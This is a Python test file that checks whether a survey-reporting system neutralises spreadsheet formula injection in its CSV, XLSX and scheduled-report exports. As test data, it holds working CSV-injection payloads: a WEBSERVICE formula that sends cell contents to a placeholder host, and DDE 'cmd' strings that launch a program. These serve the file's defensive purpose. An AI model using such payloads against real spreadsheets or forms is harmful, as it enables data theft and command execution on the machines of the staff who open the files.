"""Formula injection into staff spreadsheets (issue 17, finding 1): a student types a formula as their company in
bot2; after a build, every CSV and XLSX that carries it (the flattened export, the mart export, a scheduled report
file) shows it as inert text with a leading `'`, never as a live formula, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from reports.exports.writers import chunks
from reports.schedule.config import parse_config
from reports.schedule.runner import run_report
from tests.analytics_dataset import make_publisher, viewer_headers
from tests.ingest_support import API, catalog, tokens  # noqa: F401
from warehouse.snapshot import current

E = f"{API}/exports"
WEBSERVICE = '=WEBSERVICE("http://x/?"&ENCODEURL(B2))'
HOSTILE = {
    "sen0001": (WEBSERVICE, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "sen0002": ("+1+cmd|' /C calc'!A0", "-2+3"),
    "sen0003": ("\t=1+1", "\r=1+1"),  # the API trims the blanks, the `=` stays
    "sen0004": ("a=b", "Engineer"),  # harmless: an `=` inside is not a formula
}


def inert(value: str) -> str:
    value = value.strip()
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


@pytest.fixture
async def auth(session, settings):
    return await viewer_headers(session, settings)


@pytest.fixture
async def hostile_build(app, db, client, session, settings, tokens, catalog):  # noqa: F811
    program_code, _ = catalog.first("direction")
    for i, (ext, (company, role)) in enumerate(HOSTILE.items()):
        body = {
            "student_external_id": ext,
            "telegram_user_id": 9000 + i,
            "program_code": program_code,
            "course_year": 2,
            "employment_status": "employed",
            "employment_company": company,
            "employment_role": role,
        }
        response = await client.post(f"{API}/bot2/surveys/submit", json=body, headers=tokens.h2())
        assert response.status_code == 201, response.text
    return await make_publisher(app, db, session, settings)()


def csv_cells(content: bytes) -> dict[str, dict[str, str]]:
    return {r["student_external_id"]: r for r in csv.DictReader(io.StringIO(content.decode("utf-8"), newline=""))}


def xlsx_cells(content: bytes) -> dict[str, dict[str, openpyxl.cell.Cell]]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), f"a live formula in {name}"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return {r[header.index("student_external_id")].value: dict(zip(header, r, strict=True)) for r in rows[1:]}


def assert_inert(cells: dict, value_of) -> None:  # type: ignore[no-untyped-def]
    for ext, (company, role) in HOSTILE.items():
        assert value_of(cells[ext]["employment_company"]) == inert(company), ext
        assert value_of(cells[ext]["employment_role"]) == inert(role), ext


@pytest.mark.parametrize("dataset", ["survey-responses", "fct_survey_responses"])
async def test_a_formula_typed_in_bot2_is_inert_in_every_spreadsheet_export(
    client, auth, hostile_build, dataset
) -> None:
    response = await client.get(f"{E}/{dataset}.csv", headers=auth)
    assert response.status_code == 200, response.text
    assert_inert(csv_cells(response.content), lambda v: v)
    response = await client.get(f"{E}/{dataset}.xlsx", headers=auth)
    assert response.status_code == 200, response.text
    cells = xlsx_cells(response.content)
    assert_inert(cells, lambda c: c.value)
    for row in cells.values():
        assert row["employment_company"].data_type == "s"
        assert row["course_year"].value == 2 and row["course_year"].data_type == "n"  # numbers stay numbers
    # the data itself is untouched: Parquet is not a spreadsheet
    parquet = await client.get(f"{E}/{dataset}.parquet", params={"campaign": "default"}, headers=auth)
    assert parquet.status_code == 200 and WEBSERVICE.encode() in parquet.content


async def test_a_scheduled_report_file_is_inert(hostile_build, settings) -> None:
    text = (
        '[[reports]]\nname = "survey"\ndataset = "survey-responses"\nformats = ["csv", "xlsx"]\nschedule = "0 7 * * *"'
    )
    config = parse_config(text, ZoneInfo(settings.timezone))
    run = run_report(settings, config.get("survey"), config, now=datetime.now(UTC))
    assert run.status == "succeeded", run.error
    folder = settings.data_dir / (run.directory or "")
    csv_file, xlsx_file = (folder / f.name for f in run.files)
    assert_inert(csv_cells(csv_file.read_bytes()), lambda v: v)
    assert_inert(xlsx_cells(xlsx_file.read_bytes()), lambda c: c.value)


async def test_numbers_stay_numbers_and_only_text_is_neutralised(hostile_build, settings) -> None:
    snapshot = current(settings)
    assert snapshot is not None
    sql = """SELECT -5 AS n, -2.5::DOUBLE AS x, '-5' AS s, '=1+1' AS f, chr(9) || '=1' AS t, chr(13) || '=1' AS r,
             '@A1' AS a, 'plain' AS p, NULL::VARCHAR AS z"""
    expected = ["'-5", "'=1+1", "'\t=1", "'\r=1", "'@A1", "plain"]
    text = b"".join(chunks(snapshot, sql, [], "csv", sheet="t")).decode()
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert header == ["n", "x", "s", "f", "t", "r", "a", "p", "z"]
    assert row == ["-5", "-2.5", *expected, ""]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(chunks(snapshot, sql, [], "xlsx", sheet="t"))))
    (values,) = book.worksheets[0].iter_rows(min_row=2, values_only=True)
    # xlsxwriter stores a CR as the OOXML escape `_x000D_`, which openpyxl leaves as it is (Excel reads a CR)
    assert tuple(v.replace("_x000D_", "\r") if isinstance(v, str) else v for v in values) == (-5, -2.5, *expected, None)
